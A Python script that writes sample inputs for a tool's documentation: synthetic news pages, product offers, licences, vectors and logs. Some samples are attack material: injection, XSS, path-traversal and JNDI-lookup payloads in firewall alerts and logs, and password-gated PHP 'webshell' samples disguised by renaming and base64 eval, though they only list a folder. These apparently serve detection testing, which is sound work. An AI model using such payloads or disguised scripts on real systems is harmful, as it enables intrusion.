"""Write the small inputs of the documentation's commands, below samples/: pages, HTML, files, vectors, labels, logs.

    python tools/make_samples.py samples

Texts are drawn from a fixed seed, so that a second run writes the same bytes. Nothing is taken from anywhere but
`samples/licences.jsonl.gz`.

| file | content |
|---|---|
| `pages.jsonl` | 240 pages of four sites, some copied, edited, quoted or with a passage in common |
| `today.jsonl.gz` | 40 pages of the next day: some known, some edited, some new |
| `crawl/` | the pages as two Parquet files |
| `labels.tsv` | 24 pairs of pages, judged |
| `catalogue.jsonl` | offers of products, of which some differ only in size or number |
| `evals/` | two suites of questions, of which pages contain a few |
| `html/` | four pages of HTML, two of them copies with another frame |
| `letters/`, `old.txt`, `new.txt` | letters, edited |
| `files/` | binary files in versions |
| `webshells/`, `uploads/` | harmless PHP scripts that list a folder, and copies in disguise |
| `source/`, `licences/` | source files with licences in them, and licences |
| `images.parquet`, `new-images.parquet` | paths and perceptual hashes (PDQ) of 60 and 8 images |
| `vectors.npy` | 400 vectors of 24 numbers, some nearly equal |
| `access.log`, `today.log` | requests to a shop, on two days |
| `waf.jsonl`, `waf-today.jsonl` | alerts of a firewall |
"""

from __future__ import annotations

import base64
import gzip
import json
import random
import sys
from collections.abc import Iterable
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]

WHO = (
    "the harbour master", "a group of pupils", "the city council", "an engineer of the railway", "the museum",
    "two farmers of the valley", "the national orchestra", "a bakery in the old town", "the weather service",
    "the hospital", "a publisher of maps", "the rowing club", "the university library", "a team of divers",
    "the fire brigade", "an association of tenants", "the botanical garden", "a chess teacher", "the ferry company",
    "the mountain rescue", "a court in the capital", "the water works", "a collector of radios", "the theatre",
)  # fmt: skip
DID = (
    "has opened", "will repair", "is looking for", "has presented", "plans to replace", "has lost", "is testing",
    "has measured", "wants to sell", "has counted", "will restore", "has found", "is building", "has postponed",
    "has published", "is going to close", "has bought", "will move", "has inspected", "is painting",
)  # fmt: skip
WHAT = (
    "the longest bridge of the region", "a collection of letters", "three wooden boats", "the clock of the tower",
    "a new timetable", "the heating of the school", "an orchard with old kinds of apples", "a map from the year 1790",
    "the lights along the river", "a device that listens to whales", "the stairs to the castle", "the last tram line",
    "forty beehives", "a bell that had been lost for a century", "the wall of the reservoir", "a course for beginners",
    "an exhibition about salt", "the nests of the storks", "a tunnel for toads", "the archive of a newspaper",
    "a telescope with a broken mirror", "the roof of the market hall", "two hundred chairs", "a recipe for rye bread",
)  # fmt: skip
WHEN = (
    "on Monday", "after the storm", "in spite of the costs", "before the end of the month", "with some help",
    "for the first time in years", "although nobody had asked for it", "as a speaker said", "in the early hours",
    "without notice", "because the old one was too small", "during the holidays", "at the request of visitors",
    "while the rain went on", "under the eyes of many spectators", "to the surprise of the neighbours",
)  # fmt: skip
SITES = ("harbour-post.example", "valley-news.example", "city-notes.example", "weekly.example")
FOX = "The quick brown fox jumps over the lazy dog."
QUOTE = (
    "The bridge was measured for the first time in the spring of 1887, when a surveyor walked across it with a chain "
    "of brass and wrote every step into a green book, which the archive has kept to this day in a drawer of its own."
)
CODEWORDS = ("amber", "birch", "copper", "dune", "ember", "fjord", "garnet", "hazel", "indigo", "juniper")
PRODUCTS = ("drill", "kettle", "headphones", "desk lamp", "garden hose", "rucksack", "bicycle pump", "toaster")


def article(rng: random.Random, sentences: int) -> str:
    """Return a text of one paragraph for each four sentences."""
    lines = []
    for number in range(sentences):
        words = [rng.choice(WHO), rng.choice(DID), rng.choice(WHAT), rng.choice(WHEN)]
        if number % 3 == 2:
            words.insert(3, f"for {rng.randrange(2, 90)},{rng.randrange(100, 999)} crowns")
        line = " ".join(words)
        lines.append(line[0].upper() + line[1:] + ".")
    return "\n\n".join(" ".join(lines[at : at + 4]) for at in range(0, sentences, 4))


def edited(rng: random.Random, text: str, edits: int) -> str:
    """Return a text with some words replaced."""
    words = text.split(" ")
    for at in rng.sample(range(len(words)), edits):
        words[at] = rng.choice(CODEWORDS)
    return " ".join(words)


def pages(rng: random.Random) -> tuple[list[dict[str, Any]], list[tuple[str, str, int]]]:
    """Return pages, and pairs of their ids with 1 for the same text and 0 for different ones."""
    texts: list[str] = []
    pairs: list[tuple[str, str, int]] = []
    for number in range(240):
        source = rng.randrange(number) if number else 0
        kind = rng.random()
        if number < 20 or kind < 0.72:
            texts.append(article(rng, rng.randrange(8, 17)))
        elif kind < 0.78:
            texts.append(texts[source])
        elif kind < 0.90:
            texts.append(edited(rng, texts[source], rng.randrange(1, 4)))
            pairs.append((f"p{source:03}", f"p{number:03}", 1))
        elif kind < 0.95:
            texts.append(edited(rng, texts[source], 28))
            pairs.append((f"p{source:03}", f"p{number:03}", 0))
        else:
            texts.append(article(rng, 4) + "\n\n" + QUOTE + "\n\n" + article(rng, 4))
    rows = []
    for number, text in enumerate(texts):
        site = SITES[number % len(SITES)]
        day = f"2026-02-{1 + number // 12:02}"
        frame = f"Home | News | Sport | Weather\n\n{text}\n\nImprint | Privacy | {site}"
        rows.append(
            {
                "id": f"p{number:03}",
                "url": f"http://{site}/{day}/{number}",
                "site": site,
                "source": "feed" if number % 5 == 0 else "crawl",
                "published": day,
                "crawl_time": f"{day}T{number % 24:02}:00:00",
                "score": number * 37 % 100,
                "text": frame if number % 2 else text,
            }
        )
    rows[7]["text"] += "\n\nQuiz: Which river flows through four capitals of Europe? Answer: the Danube."
    rows[31]["text"] += " Question of the week: how many minutes does a train need for 90 km at 120 km per hour?"
    rows[40]["text"] = FOX
    return rows, pairs[:24]


def today(rng: random.Random, rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Return the pages of the next day."""
    result = []
    for number in range(40):
        old = rows[rng.randrange(len(rows))]
        text = (old["text"], edited(rng, old["text"], 2), article(rng, 10), article(rng, 12))[number % 4]
        url = f"http://{old['site']}/2026-03-01/{number}"
        result.append({**old, "id": f"t{number:02}", "url": url, "published": "2026-03-01", "text": text})
    return result


def catalogue(rng: random.Random) -> list[dict[str, Any]]:
    """Return offers: the same product in other words, and products that differ in a number."""
    rows = []
    for number in range(60):
        product, brand = rng.choice(PRODUCTS), rng.choice(CODEWORDS).title()
        model, size = f"{brand[:2].upper()}{rng.randrange(100, 999)}", rng.randrange(1, 9)
        name = f"{brand} {product} {model}, {size}00 g, colour black, with a manual in four languages"
        other = (name.replace(", with", " and"), name.replace(f"{size}00 g", f"{size + 1}00 g"))[number % 2]
        rows += [{"id": f"a{number}", "text": name}, {"id": f"b{number}", "text": other}]
    return rows


def access_log(rng: random.Random, lines: int, day: int, *, attacks: bool = False) -> str:
    """Return a log in the combined format."""
    result = []
    for number in range(lines):
        word = rng.choice(CODEWORDS)
        path = rng.choice(
            (
                f"/api/v1/users/{rng.randrange(10**6)}",
                f"/api/v1/users/{rng.randrange(10**6)}/orders?page={rng.randrange(9)}",
                f"/shop/{rng.choice(PRODUCTS).replace(' ', '-')}/{rng.randrange(10**5)}.html",
                f"/search?q={word}&sort={rng.choice(('price', 'name'))}",
                f"/static/{rng.getrandbits(64):016x}.js",
                "/",
                "/api/v1/users/me",
                f"/blog/2026/{rng.randrange(1, 13):02}/{word}-and-{rng.choice(CODEWORDS)}",
            )
        )
        if attacks and number % 60 == 59:
            path = rng.choice(
                ("/wp-login.php", "/api/v1/users/1'%20or%201=1--", "/search?q=../../etc/passwd&sort=name")
            )
        method = "POST" if "orders" in path and number % 3 == 0 else "GET"
        time = f"{day:02}/Mar/2026:{number * 86400 // lines // 3600:02}:{number % 60:02}:00 +0000"
        result.append(
            f'10.0.{rng.randrange(4)}.{rng.randrange(1, 255)} - - [{time}] "{method} {path} HTTP/1.1" 200 '
            f'{rng.randrange(200, 9000)} "-" "browser/1.0"'
        )
    return "\n".join(result) + "\n"


def alerts(rng: random.Random, count: int, *, new: bool = False) -> list[dict[str, Any]]:
    """Return alerts with their payload and sender."""
    rows = []
    for number in range(count):
        n = rng.randrange(1, 99)
        nulls = ",".join(["null"] * rng.randrange(1, 6))
        payload = rng.choice(
            (
                f"{n}' UNION ALL SELECT {nulls.upper()}-- ",
                f"-{n}%27%29+union/**/all/**/select+{nulls}%23",
                f"{n} and sleep({rng.randrange(1, 20)})",
                f"<ScRiPt>alert({n})</sCrIpT>",
                base64.b64encode(f"<script>prompt({n})</script>".encode()).decode(),
                "../" * rng.randrange(2, 7) + "etc/passwd",
                f"hello {rng.choice(CODEWORDS)}",
            )
        )
        if new and number % 4 == 0:
            payload = f"${{jndi:ldap://{rng.choice(CODEWORDS)}.example/{n}}}"
        rows.append({"id": number, "client": f"10.0.0.{rng.randrange(1, 30)}", "payload": payload})
    return rows


def write_scripts(folder: Path) -> None:
    """Write scripts that list their folder, in disguises, and an ordinary page."""
    script = (
        "<?php\n// panel\n$pass = 'blue';\n$user = 'anna';\n"
        "if ($_POST['p'] != $pass) { header('HTTP/1.0 404 Not Found'); exit; }\n$dir = getcwd();\n"
        "foreach (scandir($dir) as $name) {\n"
        "    echo $name, ' ', filesize($name), ' ', date('Y-m-d', filemtime($name)), \"\\n\";\n}\necho 'by ', $user;\n"
    )
    page = "<?php\nrequire 'header.php';\nforeach ($articles as $article) {\n    echo $article['title'];\n}\n"
    packed = base64.b64encode(script[6:].encode()).decode()
    write_files(
        folder,
        {
            "webshells/panel.php": script,
            "uploads/password.php": script.replace("blue", "8f14e45fceea167a5a36dedd4bea2543").replace("anna", "team7"),
            "uploads/renamed.php": script.replace("$pass", "$x1").replace("$dir", "$q").replace("$name", "$entry"),
            "uploads/packed.php": f"<?php eval(base64_decode('{packed}'));\n",
            "uploads/page.php": page,
        },
    )


def write_files(folder: Path, contents: dict[str, str | bytes]) -> None:
    """Write files by their path below the folder."""
    for name, content in contents.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode() if isinstance(content, str) else content)


def lines_of(rows: Iterable[dict[str, Any]]) -> str:
    """Return rows as JSON Lines."""
    return "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows)


def write_binary(folder: Path) -> None:
    """Write what needs numpy and pyarrow: vectors and Parquet."""
    import numpy as np
    import pyarrow as pa
    import pyarrow.parquet as pq

    rng = np.random.default_rng(72)
    vectors = rng.normal(size=(400, 24)).astype(np.float32)
    vectors[300:] = vectors[:100] + 0.05 * vectors[100:200]
    np.save(folder / "vectors.npy", vectors)
    codes = rng.integers(0, 256, (60, 32), np.uint8)
    codes[40:] = codes[:20]
    codes[40:, 0] ^= 0x25
    paths = [f"images/{number:02}.png" for number in range(60)]
    for name, rows in (("images", range(60)), ("new-images", range(36, 44))):
        table = {"path": [paths[row] for row in rows], "pdq": [codes[row].tobytes().hex() for row in rows]}
        pq.write_table(pa.table(table), folder / f"{name}.parquet", compression="zstd")
    rows = [json.loads(line) for line in (folder / "pages.jsonl").read_text(encoding="utf-8").splitlines()]
    (folder / "crawl").mkdir(exist_ok=True)
    for part in range(2):
        table = pa.Table.from_pylist(rows[part * 120 : part * 120 + 120])
        pq.write_table(table, folder / "crawl" / f"part-{part}.parquet", compression="zstd")


def write_texts(folder: Path) -> None:
    """Write everything that needs the standard library alone."""
    rng = random.Random(72)
    rows, pairs = pages(rng)
    labels = "left\tright\tmatch\n" + "".join(f"{left}\t{right}\t{match}\n" for left, right, match in pairs)
    with gzip.open(ROOT / "samples" / "licences.jsonl.gz", "rt", encoding="utf-8") as lines:
        licences = {row["id"]: row["text"] for row in map(json.loads, lines)}
    names = ("bsd-new", "bsd-simplified", "bzip2-libbzip-2010", "blueoak-1.0.0", "click-license", "clear-bsd")
    known = {name: licences[f"{name}.LICENSE"] for name in names}
    commented = "\n".join(f"# {line}".rstrip() for line in known["bsd-new"].splitlines())
    letter = "Dear Anna,\n\n" + article(rng, 30) + "\n\nYours, Ben\n"
    body, other = article(rng, 8), article(rng, 8)
    viewer, player = (rng.randbytes(12_000) for _ in range(2))
    frame = (
        "<html><head><title>{}</title></head><body><nav>Home | News</nav><p>{}</p><footer>{}</footer></body></html>\n"
    )
    write_files(
        folder,
        {
            "pages.jsonl": lines_of(rows),
            "today.jsonl.gz": gzip.compress(lines_of(today(rng, rows)).encode(), mtime=0),
            "labels.tsv": labels,
            "catalogue.jsonl": lines_of(catalogue(rng)),
            "evals/trivia.jsonl": lines_of(
                {"question": question, "answer": answer}
                for question, answer in (
                    ("Which river flows through four capitals of Europe?", "the Danube"),
                    ("Which metal is liquid at room temperature and was used in thermometers?", "mercury"),
                )
            ),
            "evals/sums.csv": "question,answer\n"
            "how many minutes does a train need for 90 km at 120 km per hour?,45\n"
            "how many legs do seven spiders and four ants have together?,80\n",
            "html/harbour.html": frame.format("Harbour", body, "2026"),
            "html/harbour-copy.html": frame.format("The harbour", body, "All rights reserved"),
            "html/valley.html": frame.format("Valley", other, "2026"),
            "html/bread.html": frame.format("Bread", article(rng, 8), "2026"),
            "letters/anna.txt": letter,
            "letters/anna-2.txt": edited(rng, letter, 3),
            "letters/clara.txt": letter.replace("Anna", "Clara")[:-8] + article(rng, 3) + "\n",
            "letters/dora.txt": "Dear Dora,\n\n" + article(rng, 30) + "\n",
            "old.txt": "The harbour was closed on Monday after the storm.\n",
            "new.txt": "The harbour was closed on Tuesday, after the storm.\n",
            "files/viewer-1.0.bin": viewer,
            "files/viewer-1.1.bin": viewer[:5000] + b"1.1" + viewer[5000:],
            "files/viewer-2.0.bin": viewer[:9000] + rng.randbytes(4000),
            "files/player-1.0.bin": player,
            "files/player-1.0-copy.bin": player,
            "files/noise.bin": rng.randbytes(9000),
            "source/scanner.py": commented + "\n\nimport sys\n\nprint(sys.argv)\n",
            "source/NOTICE": "This product has parts of others.\n\n" + known["bzip2-libbzip-2010"] + "\n",
            "source/main.c": "int main(void) { return 0; }\n",
            "access.log": access_log(rng, 2000, 1),
            "today.log": access_log(rng, 400, 2, attacks=True),
            "waf.jsonl": lines_of(alerts(rng, 200)),
            "waf-today.jsonl": lines_of(alerts(rng, 24, new=True)),
            **{f"licences/{name}.txt": text for name, text in known.items()},
        },
    )
    write_scripts(folder)


if __name__ == "__main__":
    write_texts(Path(sys.argv[1]))
    write_binary(Path(sys.argv[1]))
